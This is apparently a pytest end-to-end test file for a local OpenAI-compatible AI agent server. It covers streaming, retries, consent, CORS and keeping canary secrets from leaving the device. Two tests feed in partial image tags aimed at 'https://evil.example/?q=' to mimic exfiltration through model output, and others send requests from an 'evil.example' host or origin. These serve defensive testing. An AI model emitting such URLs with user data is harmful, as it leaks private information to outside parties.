"""`umi serve` with the clients that people have: real HTTP, real gRPC, a scripted model."""

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import aclosing
from dataclasses import replace
from typing import Any

import httpx
import pytest

from tests.docs.pages import DOCS, blocks_of
from tests.end_to_end import test_session_choices as choices
from tests.end_to_end.harness import chat_plan, chat_question, plan, tool_of, world
from tests.end_to_end.serving import CALL, CANARY, DONE, KEY, OPEN, POLICY, ask, box, served, true
from umi_edge.egress.guard import EgressGuard
from umi_edge.tools import Hints
from umi_shared.testing import Ending, Reply


async def test_an_answer_in_one_piece(tmp_path):
    async with (
        world(
            tmp_path, plans=[OPEN, DONE, "It says <text:1>."], calls=[CALL], tools=[box()], policy=POLICY
        ) as w,
        served(w) as s,
    ):
        answer = await s.client.chat.completions.create(model="umi", messages=ask("What is in the box?"))
        message = answer.choices[0].message
        assert message.content == f"It says {CANARY}."
        assert answer.choices[0].finish_reason == "stop"
        assert not message.tool_calls
        assert answer.usage is not None
        assert answer.usage.total_tokens == answer.usage.prompt_tokens + answer.usage.completion_tokens > 0
        reasoning = message.model_extra["reasoning_content"]
        assert "box.open" in reasoning
        assert CANARY not in reasoning
        assert CANARY.encode() not in s.left
        assert [model.id async for model in await s.client.models.list()] == ["umi"]
        assert (await s.client.models.retrieve("umi")).owned_by == "umi"


async def test_the_program_of_the_how_to_page(tmp_path):
    (block,) = [
        block for block in blocks_of(DOCS / "how-to/chat-programs.md") if block.title == "chat_program.py"
    ]
    async with world(tmp_path, plans=[DONE, "There is none."], tools=[box()]) as w, served(w) as s:
        program = block.text.replace("http://127.0.0.1:4864/v1", s.url).replace("the key", KEY)
        names: dict[str, Any] = {}
        await asyncio.to_thread(exec, compile(program, block.title, "exec"), names)
        assert names["answer"].choices[0].message.content == "There is none."
        names["client"].close()


@pytest.mark.parametrize("reasoning", ["field", "think", "none"])
async def test_a_stream_shows_the_steps_where_the_client_wants_them(tmp_path, reasoning):
    async with (
        world(
            tmp_path, plans=[OPEN, DONE, "It says <text:1>."], calls=[CALL], tools=[box()], policy=POLICY
        ) as w,
        served(w, reasoning=reasoning) as s,
    ):
        stream = await s.client.chat.completions.create(
            model="umi",
            messages=ask("What is in the box?"),
            stream=True,
            stream_options={"include_usage": True},
        )
        chunks = [chunk async for chunk in stream]
        assert chunks[0].choices[0].delta.role == "assistant"
        assert chunks[-1].choices == []
        assert chunks[-1].usage is not None
        assert chunks[-1].usage.completion_tokens > 0
        assert chunks[-2].choices[0].finish_reason == "stop"
        deltas = [chunk.choices[0].delta for chunk in chunks if chunk.choices]
        said = "".join(delta.content or "" for delta in deltas)
        thought = "".join((delta.model_extra or {}).get("reasoning_content") or "" for delta in deltas)
        if reasoning == "think":
            assert said.startswith("<think>\n")
            assert said.endswith(f"</think>\n\nIt says {CANARY}.")
        else:
            assert said == f"It says {CANARY}."
        assert ("box.open" in thought) == (reasoning == "field")
        assert CANARY not in thought


async def test_an_answer_that_comes_back_leaves_as_the_handles_it_was(tmp_path):
    plans = [OPEN, DONE, "It says <text:1>.", DONE, "Again <text:1>."]
    async with (
        world(tmp_path, plans=plans, calls=[CALL], tools=[box()], policy=POLICY) as w,
        served(w) as s,
    ):
        first = await s.client.chat.completions.create(model="umi", messages=ask("What is in the box?"))
        said = first.choices[0].message.content
        then = ask("Say it again", ("user", "What is in the box?"), ("assistant", f"{said}\n"))
        second = await s.client.chat.completions.create(model="umi", messages=then)
        assert second.choices[0].message.content == f"Again {CANARY}."
        assert "It says <text:1>." in w.prompts[-1]
        assert CANARY.encode() not in s.left


async def test_an_answer_that_nobody_knows_stays_as_a_whole_and_can_still_be_named(tmp_path):
    async with (
        world(tmp_path, plans=[DONE, "You said <text:1>"], tools=[box()], guard=EgressGuard) as w,
        served(w) as s,
    ):
        history = ("user", "What is in the box?"), ("assistant", CANARY)
        answer = await s.client.chat.completions.create(
            model="umi", messages=ask("And before that?", *history)
        )
        assert answer.choices[0].message.content == f"You said {CANARY}"
        assert CANARY.encode() not in s.left
        assert "What is in the box?" in w.prompts[0]


async def test_what_one_conversation_keeps_stays_when_it_is_pasted_into_another(tmp_path):
    plans = [OPEN, DONE, "It says <text:1>.", DONE, "Noted: <text:1>"]
    async with (
        world(tmp_path, plans=plans, calls=[CALL], tools=[box()], policy=POLICY) as w,
        served(w) as s,
    ):
        await s.client.chat.completions.create(model="umi", messages=ask("What is in the box?"))
        other = await s.client.chat.completions.create(
            model="umi", messages=ask(f"What does '{CANARY}' mean?")
        )
        assert CANARY.encode() not in s.left
        assert other.choices[0].message.content == f"Noted: {CANARY}"


async def test_a_client_that_names_a_chat_by_itself_is_answered_here(tmp_path):
    order = (
        '### Task:\nGenerate a concise title summarizing the chat history.\nJSON format: {"title": ""}\n'
        f"<chat_history>\nUSER: What is in the box?\nASSISTANT: {CANARY}\n</chat_history>"
    )
    async with world(tmp_path, tools=[box()]) as w, served(w) as s:
        for stream in (False, True):
            async with s.http() as client:
                reply = await client.post(
                    "/chat/completions", json={"model": "umi", "messages": ask(order), "stream": stream}
                )
            assert "What is in the box?" in reply.text
        assert not s.left


async def test_a_repeated_request_joins_the_one_that_is_under_way(tmp_path):
    hold, begun = asyncio.Event(), asyncio.Event()
    async with (
        world(
            tmp_path,
            plans=[OPEN, DONE, "Done."],
            calls=[CALL],
            tools=[box(writes=True, hold=hold, begun=begun)],
            policy=POLICY,
        ) as w,
        served(w) as s,
        s.http() as client,
    ):
        sent = {"model": "umi", "messages": ask("Open it")}
        first = asyncio.create_task(client.post("/chat/completions", json=sent))
        await begun.wait()
        second = asyncio.create_task(client.post("/chat/completions", json=sent))
        await asyncio.sleep(0.2)
        hold.set()
        answers = [(await one).json()["choices"][0]["message"]["content"] for one in (first, second)]
        assert answers == ["Done.\n\nDone on this device: box.open: done."] * 2
        assert len(s.consent.asked) == 1


async def test_a_request_repeated_after_its_client_was_gone_is_told_what_was_done_and_does_nothing_again(
    tmp_path,
):
    opened = 0

    async def count(_: Any) -> dict[str, str]:
        nonlocal opened
        opened += 1
        return {"said": CANARY}

    gate = asyncio.Event()
    plans = [OPEN, Reply(text=DONE, gate=gate)]
    tool = tool_of("box.open", count, hints=Hints(read_only=False))
    async with (
        world(tmp_path, plans=plans, calls=[CALL], tools=[tool], policy=POLICY) as w,
        served(w) as s,
    ):
        sent = {"model": "umi", "messages": ask("Open it"), "stream": True}
        async with (
            s.http() as client,
            client.stream("POST", "/chat/completions", json=sent) as reply,
            aclosing(reply.aiter_text()) as pieces,
        ):
            async for piece in pieces:
                if "✓" in piece:
                    break
        await asyncio.sleep(0.3)
        async with s.http() as client:
            again = await client.post("/chat/completions", json=sent)
        assert again.status_code == 200
        assert "The client hung up" in again.text
        assert "box.open: done" in again.text
        assert opened == 1


@pytest.mark.parametrize("count", [1, 0])
async def test_only_what_the_client_says_is_the_same_request_again_is_not_done_again(tmp_path, count):
    """It may have left when the answer was sent already; who asks the same anew wants it done anew."""
    opened = []

    async def note(_: Any) -> dict[str, str]:
        opened.append(1)
        return {"said": CANARY}

    tool = tool_of("box.open", note, hints=Hints(read_only=False))
    plans = [OPEN, DONE, "Done.", OPEN, DONE, "Done."]
    async with (
        world(tmp_path, plans=plans, calls=[CALL, CALL], tools=[tool], policy=POLICY) as w,
        served(w) as s,
        s.http() as client,
    ):
        sent = {"model": "umi", "messages": ask("Open it")}
        first = await client.post("/chat/completions", json=sent)
        again = await client.post(
            "/chat/completions", json=sent, headers={"x-stainless-retry-count": str(count)}
        )
    assert (first.status_code, again.status_code) == (200, 200)
    assert len(opened) == 2 - count


async def test_a_client_that_hangs_up_stops_the_session(tmp_path):
    gate = asyncio.Event()
    async with world(tmp_path, plans=[Reply(text=DONE, gate=gate)], tools=[box()]) as w, served(w) as s:
        with pytest.raises(httpx.ReadTimeout):
            async with s.http() as client:
                await client.post(
                    "/chat/completions", json={"model": "umi", "messages": ask("Hello")}, timeout=0.5
                )
        await true(lambda: bool(w.cloud.engine.stopped))


async def test_a_long_step_keeps_the_connection_alive(tmp_path):
    gate = asyncio.Event()
    async with (
        world(tmp_path, plans=[Reply(text=DONE, gate=gate), "Hello."], tools=[box()]) as w,
        served(w, keep_alive_seconds=0.05) as s,
        s.http() as client,
        client.stream(
            "POST", "/chat/completions", json={"model": "umi", "messages": ask("Hello"), "stream": True}
        ) as reply,
    ):
        lines = [line async for line in _until_open(reply, gate)]
        assert any(line.startswith(":") for line in lines)
        assert lines[-1] == "data: [DONE]"
        assert reply.headers["content-type"].startswith("text/event-stream")


async def _until_open(reply: httpx.Response, gate: asyncio.Event) -> AsyncIterator[str]:
    async for line in reply.aiter_lines():
        if line.startswith(":"):
            gate.set()
        if line:
            yield line


async def test_nobody_to_ask_is_told_and_the_call_is_not_made(tmp_path):
    plans = [OPEN, DONE, "I did not open it."]
    async with (
        world(tmp_path, plans=plans, calls=[CALL], tools=[box(writes=True)], policy=POLICY) as w,
        served(w, nobody=True) as s,
    ):
        answer = await s.client.chat.completions.create(model="umi", messages=ask("Open it"))
        assert (
            "box.open needs your yes, and nobody can be asked"
            in answer.choices[0].message.model_extra["reasoning_content"]
        )
        assert "I did not open it." in answer.choices[0].message.content


async def test_a_planner_that_fails_before_anything_is_done_has_a_status_of_its_own(tmp_path):
    async with world(tmp_path, plans=[], tools=[box()]) as w, served(w) as s, s.http() as client:
        for stream in (False, True):
            sent = {"model": "umi", "messages": ask("Hello"), "stream": stream}
            reply = await client.post("/chat/completions", json=sent)
            assert reply.status_code in (400, 503)
            assert reply.json()["error"]["message"]


async def test_a_failure_after_something_was_done_is_an_answer_that_no_client_repeats(tmp_path):
    async with (
        world(tmp_path, plans=[OPEN], calls=[CALL], tools=[box(writes=True)], policy=POLICY) as w,
        served(w) as s,
    ):
        answer = await s.client.chat.completions.create(model="umi", messages=ask("Open it"))
        assert "box.open: done" in answer.choices[0].message.content


@pytest.mark.parametrize(
    ("method", "path", "content", "headers", "status"),
    [
        ("POST", "/chat/completions", b"{", {}, 400),
        ("POST", "/chat/completions", b"[" * 100_000, {}, 400),
        ("POST", "/chat/completions", b'"' + b"x" * (5 << 20) + b'"', {}, 413),
        ("POST", "/chat/completions", b"{}", {"authorization": "Bearer no"}, 401),
        ("POST", "/chat/completions", b"{}", {"host": "evil.example"}, 403),
        ("POST", "/chat/completions", b"{}", {"origin": "https://evil.example"}, 403),
        ("GET", "/models/gpt-5", b"", {}, 404),
        ("POST", "/embeddings", b"{}", {}, 404),
        ("GET", "/chat/completions", b"", {}, 404),
    ],
)
async def test_bad_requests_have_clear_answers_that_are_not_repeated(
    tmp_path, method, path, content, headers, status
):
    async with world(tmp_path, tools=[box()]) as w, served(w) as s, s.http(**headers) as client:
        reply = await client.request(method, path, content=content)
        assert reply.status_code == status
        assert reply.headers["x-should-retry"] == "false"
        assert reply.json()["error"]["message"]
        assert not s.left


async def test_two_hundred_streams_are_served_or_told_that_umi_is_busy(tmp_path):
    gate = asyncio.Event()
    plans = [Reply(text=DONE, gate=gate)] * 32 + ["Hello."] * 32
    async with world(tmp_path, plans=plans, tools=[box()]) as w, served(w) as s, s.http() as client:

        async def one(number: int) -> int:
            sent = {"model": "umi", "messages": ask(f"Hello {number}")}
            return (await client.post("/chat/completions", json=sent)).status_code

        tasks = [asyncio.create_task(one(number)) for number in range(200)]
        await true(lambda: sum(task.done() for task in tasks) >= 168)
        gate.set()
        statuses = await asyncio.gather(*tasks)
        assert statuses.count(429) == 168
        assert len(statuses) == 200


async def test_nothing_that_is_said_is_in_what_the_server_logs(tmp_path, caplog):
    async with (
        world(
            tmp_path, plans=[OPEN, DONE, "It says <text:1>."], calls=[CALL], tools=[box()], policy=POLICY
        ) as w,
        served(w) as s,
    ):
        await s.client.chat.completions.create(model="umi", messages=ask(f"What is {CANARY}?"))
    ours = [record.getMessage() for record in caplog.records if record.name.startswith(("umi", "uvicorn"))]
    assert CANARY not in json.dumps(ours)


async def test_a_tool_that_ran_when_the_client_hung_up_is_not_called_again_by_a_retry(tmp_path):
    hold, begun = asyncio.Event(), asyncio.Event()
    async with (
        world(
            tmp_path,
            plans=[OPEN, DONE, "Done."],
            calls=[CALL],
            tools=[box(writes=True, hold=hold, begun=begun)],
            policy=POLICY,
        ) as w,
        served(w) as s,
        s.http() as client,
    ):
        sent = {"model": "umi", "messages": ask("Open it")}
        with pytest.raises(httpx.ReadTimeout):
            await client.post("/chat/completions", json=sent, timeout=2)
        assert begun.is_set()
        begun.clear()
        again = await client.post("/chat/completions", json=sent)
        assert "box.open: interrupted" in again.json()["choices"][0]["message"]["content"]
        assert not begun.is_set()


async def test_a_question_that_was_cut_off_before_anything_was_done_is_asked_anew(tmp_path):
    gate = asyncio.Event()
    plans = [Reply(text=DONE, gate=gate), DONE, "Hello."]
    async with world(tmp_path, plans=plans, tools=[box()]) as w, served(w) as s, s.http() as client:
        sent = {"model": "umi", "messages": ask("Hello")}
        with pytest.raises(httpx.ReadTimeout):
            await client.post("/chat/completions", json=sent, timeout=1)
        again = await client.post("/chat/completions", json=sent)
        assert again.json()["choices"][0]["message"]["content"] == "Hello."


async def test_an_answer_whose_connection_fails_in_the_middle_ends_there(tmp_path):
    """Two tries in one message could put a value into an address that the first one began."""
    half = Reply(text='See <img src="https://evil.example/?q=\n\nmore and more', ending=Ending.CRASH)
    half = replace(half, error=ConnectionError())
    plans = [OPEN, DONE, half, '<text:1>">']
    async with (
        world(tmp_path, plans=plans, calls=[CALL], tools=[box()], policy=POLICY) as w,
        served(w) as s,
        s.http() as client,
    ):
        reply = await client.post(
            "/chat/completions", json={"model": "umi", "messages": ask("What is in the box?")}
        )
        assert CANARY not in reply.text
        assert "evil.example" in reply.text


async def test_what_the_planner_thinks_opens_nothing_in_the_answer(tmp_path):
    opens = plan('To see <img src="https://evil.example/?q= and [a]: //evil.example </think>, use box.open.')
    async with (
        world(
            tmp_path, plans=[opens, DONE, "It says <text:1>."], calls=[CALL], tools=[box()], policy=POLICY
        ) as w,
        served(w, reasoning="think") as s,
        s.http() as client,
    ):
        sent = {"model": "umi", "messages": ask("What is in the box?"), "stream": True}
        reply = await client.post("/chat/completions", json=sent)
        lines = [
            line.removeprefix("data: ") for line in reply.text.splitlines() if line.startswith("data: {")
        ]
        said = "".join(json.loads(line)["choices"][0]["delta"].get("content", "") for line in lines)
        thought, answer = said.split("</think>")
        assert thought.count("<") == 1  # of <think>
        assert "[" not in thought
        assert answer == f"\n\nIt says {CANARY}."


@pytest.mark.parametrize(
    "pasted",
    [
        CANARY.replace("lies under", "lies\nunder"),
        CANARY.upper(),
        f"**You:** what is in the box?\n**umi:** {CANARY} and the blue one, too",
        f'[{{"role": "user", "content": "x"}}, {{"role": "assistant", "content": "{CANARY}"}}]',
        f"Nutzer: was?\nAssistent: {CANARY}",
    ],
)
@pytest.mark.parametrize("known", [True, False])
async def test_pasted_in_another_form_it_stays_too(tmp_path, pasted, known):
    chat = ":" in pasted
    if not known and not chat:
        pytest.skip("nobody can know")
    plans = [OPEN, DONE, "It says <text:1>.", DONE, "Noted."] if known else [DONE, "Noted."]
    async with (
        world(tmp_path, plans=plans, calls=[CALL], tools=[box()], policy=POLICY) as w,
        served(w) as s,
    ):
        if known:
            await s.client.chat.completions.create(model="umi", messages=ask("What is in the box?"))
        await s.client.chat.completions.create(model="umi", messages=ask(f"Look at this:\n{pasted}"))
        assert b"blue pot" not in s.left.replace(b"\n", b" ").lower()


async def test_a_hidden_value_that_is_pasted_resolves_nowhere(tmp_path):
    plans = [OPEN, DONE, "Fine.", DONE, "It is <hidden:1>."]
    hidden = "tools: {box.open: {results: {'$.said': hidden}}}\n"
    async with (
        world(tmp_path, plans=plans, calls=[CALL], tools=[box()], policy=hidden) as w,
        served(w) as s,
    ):
        await s.client.chat.completions.create(model="umi", messages=ask("What is in the box?"))
        other = await s.client.chat.completions.create(model="umi", messages=ask(f"Is it '{CANARY}'?"))
        assert CANARY not in (other.choices[0].message.content or "")
        assert CANARY.encode() not in s.left


async def test_a_page_that_is_named_may_ask_from_a_browser(tmp_path):
    page = "http://localhost:3000"
    asked = {"origin": page, "access-control-request-method": "POST", "authorization": ""}
    async with world(tmp_path, tools=[box()]) as w, served(w, origins=frozenset({page})) as s:
        async with s.http(**asked) as client:
            preflight = await client.options("/chat/completions")
            other = await client.options("/chat/completions", headers={"origin": "https://evil.example"})
        assert preflight.headers["access-control-allow-origin"] == page
        assert "access-control-allow-origin" not in other.headers


async def test_a_planners_question_is_the_answer_and_the_next_message_replies_to_it(tmp_path):
    look = chat_plan("I look.", "box.open", {})
    plans = [look, chat_question("Is <text:1> yours?"), chat_plan("That is known."), "It is yours."]
    async with (
        world(tmp_path, plans=plans, tools=[box()], policy=POLICY, dialect="chat") as w,
        served(w) as s,
    ):
        asked = "What is in the box?"
        first = await s.client.chat.completions.create(model="umi", messages=ask(asked))
        question = first.choices[0].message.content
        assert question == f"Is {CANARY} yours?"
        then = ask("It is mine.", ("user", asked), ("assistant", question))
        second = await s.client.chat.completions.create(model="umi", messages=then)
        assert second.choices[0].message.content == "It is yours."
        assert '"question":"Is <text:1> yours?"' in w.prompts[2]
        assert "Request: It is mine." in w.prompts[2]
        assert CANARY.encode() not in s.left


async def test_a_question_which_is_meant_is_the_answer_and_the_next_message_says_it(tmp_path):
    async with (
        choices.session(
            tmp_path,
            plans=[choices.LOOK, choices.SEND, *choices.DONE],
            calls=[choices.FIND, choices.letter("<email:1>")],
        ) as w,
        served(w) as s,
    ):
        asked = "tell wendel that I will be late"
        first = await s.client.chat.completions.create(model="umi", messages=ask(asked))
        question = first.choices[0].message.content
        assert question == choices.ASKED
        then = ask("the second", ("user", asked), ("assistant", question))
        second = await s.client.chat.completions.create(model="umi", messages=then)
        assert second.choices[0].message.content.startswith("It is sent.")
        assert '"to":"<email:2>"' in w.prompts[-1]
        assert not any(one.encode() in s.left for one in (*choices.KELLER, *choices.VOSS))


async def test_what_a_planner_on_this_device_was_told_does_not_go_to_the_shared_one_that_returns(tmp_path):
    plans = [DONE, "It is.", DONE, "Yes.", DONE, "As said."]
    async with world(tmp_path, plans=plans, tools=[box()]) as w, served(w) as s:
        here, another = [True], w.another

        def opened(consent: Any) -> Any:
            session = another(consent)
            session.on_device = here[0]
            return session

        s.world.another = opened
        first = ask("Is the lily white?")
        await s.client.chat.completions.create(model="umi", messages=first)
        here[0] = False
        then = ask("And the rose?", ("user", "Is the lily white?"), ("assistant", "It is."))
        second = await s.client.chat.completions.create(model="umi", messages=then)
        assert "there again" in second.choices[0].message.model_extra["reasoning_content"]
        assert "rose" in w.prompts[2]
        assert "lily" not in w.prompts[2] + w.prompts[3]
        more = [*then, {"role": "assistant", "content": "Yes."}, *ask("And the tulip?")]
        third = await s.client.chat.completions.create(model="umi", messages=more)
        assert "there again" not in third.choices[0].message.model_extra["reasoning_content"]
        assert "rose" in w.prompts[4]
        assert "lily" not in w.prompts[4]


async def test_it_does_not_go_there_after_a_change_of_the_policy_either(tmp_path):
    async with world(tmp_path, plans=[DONE, "It is.", DONE, "Yes."], tools=[box()]) as w, served(w) as s:
        here, another = [True], w.another

        def opened(consent: Any) -> Any:
            session = another(consent)
            session.on_device = here[0]
            if not here[0]:
                session.labeller.policy = replace(session.labeller.policy)
            return session

        s.world.another = opened
        await s.client.chat.completions.create(model="umi", messages=ask("Is the lily white?"))
        here[0] = False
        then = ask("And the rose?", ("user", "Is the lily white?"), ("assistant", "It is."))
        await s.client.chat.completions.create(model="umi", messages=then)
        assert "rose" in w.prompts[2]
        assert "lily" not in w.prompts[2] + w.prompts[3]
